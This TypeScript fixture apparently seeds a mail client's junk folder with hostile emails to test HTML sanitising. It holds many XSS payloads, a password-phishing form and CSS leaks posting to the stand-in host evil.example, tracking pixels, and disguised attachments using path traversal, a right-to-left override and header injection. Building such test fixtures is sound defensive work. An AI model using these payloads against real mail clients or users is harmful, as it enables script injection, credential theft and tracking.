import type { Address } from '../mailbox/mail-item.js';
import { DAY, file, html, HOUR, type SeedMail } from './seed-mail.js';

const ATTACKER: Address = { name: 'Account Team', address: 'no-reply@account-check.example' };

interface Attack {
  readonly subject: string;
  readonly markup: string;
  readonly head?: string;
}

/**
 * Hostile mail, to show that sanitising works. A script that runs sets `window.pwned`; a request that leaks goes to
 * evil.example.
 */
const ATTACKS: readonly Attack[] = [
  {
    subject: 'Hostile: scripts in many places',
    markup:
      '<script>window.pwned="script"</script><p>Hello</p><ScRiPt src="https://evil.example/a.js"></sCrIpT><svg><script>window.pwned="svg"</script></svg><noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
    head: '<script>window.pwned="head"</script><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  },
  {
    subject: 'Hostile: event handlers',
    markup:
      '<img src="x" onerror="window.pwned=\'onerror\'"><body onload="window.pwned=1"><div onmouseover=window.pwned=2 style="width:100%;height:200px">Move over me</div><details open ontoggle="window.pwned=3"><summary>Open</summary></details><input autofocus onfocus="window.pwned=4"><marquee onstart="window.pwned=5">News</marquee>',
  },
  {
    subject: 'Hostile: links that are programs',
    markup:
      '<a href="javascript:window.pwned=1">One</a> <a href=" java&#x09;script:window.pwned=2">Two</a> <a href="JaVaScRiPt&colon;window.pwned=3">Three</a> <a href="data:text/html,<script>parent.pwned=4</script>">Four</a> <a href="vbscript:msgbox(1)">Five</a> <a href="https://contoso.com.evil.example/login">https://contoso.com/login</a> <area href="javascript:window.pwned=6" shape="default">',
  },
  {
    subject: 'Hostile: forms that ask for a password',
    markup:
      '<form action="https://evil.example/collect" method="post"><label>Password <input type="password" name="p"></label><button formaction="https://evil.example/b">Sign in again</button></form><iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.svg">',
  },
  {
    subject: 'Hostile: SVG and MathML',
    markup:
      '<svg onload="window.pwned=1"><a xlink:href="javascript:window.pwned=2"><text x="20" y="20">Click</text></a><foreignObject><iframe src="javascript:window.pwned=3"></iframe></foreignObject><animate attributeName="href" values="javascript:window.pwned=4"/><use href="https://evil.example/x.svg#a"/></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=5&gt;"></mglyph></table></mtext></math>',
  },
  {
    subject: 'Hostile: CSS that calls home',
    markup:
      '<div style="background:url(https://evil.example/css1.png);width:10px">a</div><div style="background-image:url(&quot;javascript:window.pwned=1&quot;)">b</div><div style="position:fixed;inset:0;z-index:99999;background:#fff">I cover your whole screen</div><p style="width:expression(window.pwned=2);behavior:url(#x);-moz-binding:url(https://evil.example/x.xml)">c</p><table background="https://evil.example/table.png"><tr><td>d</td></tr></table>',
    head: '<style>@import "https://evil.example/i.css"; input[value^="a"]{background:url(https://evil.example/leak?a)} body{background:url(https://evil.example/bg.png)}</style><link rel="stylesheet" href="https://evil.example/l.css"><link rel="prefetch" href="https://evil.example/p">',
  },
  {
    subject: 'Hostile: remote pictures that watch you',
    markup:
      '<img src="https://evil.example/pixel.gif?u=42" width="1" height="1"><img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x"><picture><source srcset="https://evil.example/3.webp"><img src="//evil.example/4.png"></picture><video poster="https://evil.example/5.png"><source src="https://evil.example/6.mp4"></video><audio src="https://evil.example/7.mp3" autoplay></audio><img src="http://evil.example/plain.png"><img src="\\\\evil.example\\share\\x.png">',
  },
  {
    subject: 'Hostile: broken and nested markup',
    markup:
      '<<img src=x onerror=window.pwned=1>><p title="--><script>window.pwned=2</script>">x</p><!--[if gte mso 9]><script>window.pwned=3</script><![endif]--><style></style/><img src=x onerror=window.pwned=4></style><textarea><img title="</textarea><img src=x onerror=window.pwned=5>"></textarea><template><script>window.pwned=6</script></template><a id="attributes"></a><form id="location"><input name="href"></form><plaintext>',
  },
];

function attack(each: Attack, position: number): SeedMail {
  return {
    folder: 'junkemail',
    ageMinutes: position * 3 * DAY + 7 * HOUR + 13,
    from: ATTACKER,
    subject: each.subject,
    body: html(each.markup, each.head ?? ''),
    more: { isRead: false, inferenceClassification: 'other' },
  };
}

/** File names and types that try to pass for something else. */
function disguisedFiles(): SeedMail {
  return {
    folder: 'junkemail',
    ageMinutes: 2 * DAY + 77,
    from: ATTACKER,
    subject: '<b>Urgent</b> "invoice" & <script>alert(1)</script>',
    body: html('<p>Please open all of them.</p>'),
    more: {
      isRead: false,
      importance: 'high',
      attachments: [
        file('../../etc/passwd', 'text/plain', 'root:x:0:0\n'),
        file('invoice\u202Efdp.exe', 'application/pdf', 'MZ'),
        file('quotes";filename="evil.html', 'text/html', '<script>window.pwned="attachment"</script>'),
        file('picture.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"/>'),
        file('line\r\nSet-Cookie: a=b.txt', 'text/plain', 'x'),
        file('CON.txt', 'text/html; charset=utf-7', '+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-'),
      ],
    },
  };
}

export function hostile(): readonly SeedMail[] {
  return [...ATTACKS.map(attack), disguisedFiles()];
}
